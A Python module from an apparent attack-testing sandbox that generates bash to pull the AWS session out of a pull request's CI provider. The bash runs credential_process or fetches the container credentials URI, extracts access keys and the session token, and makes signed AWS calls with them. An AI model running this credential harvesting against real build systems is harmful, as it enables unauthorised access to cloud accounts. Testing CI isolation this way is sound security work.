"""The AWS session of a plan as a pull request's provider reads it, and calls of AWS with it."""

import re
from collections.abc import Mapping

from sandbox.attack.provider import printed
from sandbox.attack.target import Target

SESSION = """
if [ -n "$AWS_CONFIG_FILE" ]; then
  session=$(sh -c "$(sed -n 's/^credential_process *= *//p' "$AWS_CONFIG_FILE")")
else
  session=$(curl -sS "$AWS_CONTAINER_CREDENTIALS_FULL_URI")
fi
field() { echo "$session" | tr ',{}' '\\n' | sed -n "s/^ *\\"$1\\": *\\"\\(.*\\)\\".*/\\1/p"; }
token=$(field SessionToken)
"""
"""Lines of bash that define `field NAME`, which prints a field of the session, and `$token`."""
_SCRIPT = """
# The repository of this pull request, as owner/name.
own=$(echo "${{PWD#*/repos/}}" | cut -d/ -f1-2)
call() {{
  curl -sS -o /dev/null -w "$1 %{{http_code}}\\n" --aws-sigv4 "aws:amz:$AWS_REGION:{service}" \\
    --user "$(field AccessKeyId):$(field SecretAccessKey)" -H "x-amz-security-token: ${{token:-$(field Token)}}" "${{@:2}}"
}}
{calls}
"""


def called(target: Target, name: str, calls: Mapping[str, str], *, service: str = "s3") -> dict[str, int]:
    """The HTTP status of each call, by its label. A call is the arguments of curl; `$own` is the pull request's repository."""
    lines = "\n".join(f"call {label} {arguments}" for label, arguments in calls.items())
    script = SESSION + _SCRIPT.format(calls=lines, service=service)
    said = printed(target, name, f"bash <<'BASH'\n{script.strip()}\nBASH")
    found = {label: int(status) for label, status in re.findall(r"^(\S+) (\d+)$", said, re.MULTILINE)}
    if found.keys() != calls.keys():
        raise RuntimeError(f"the provider called {sorted(found)}: {said[:300]}")
    return found
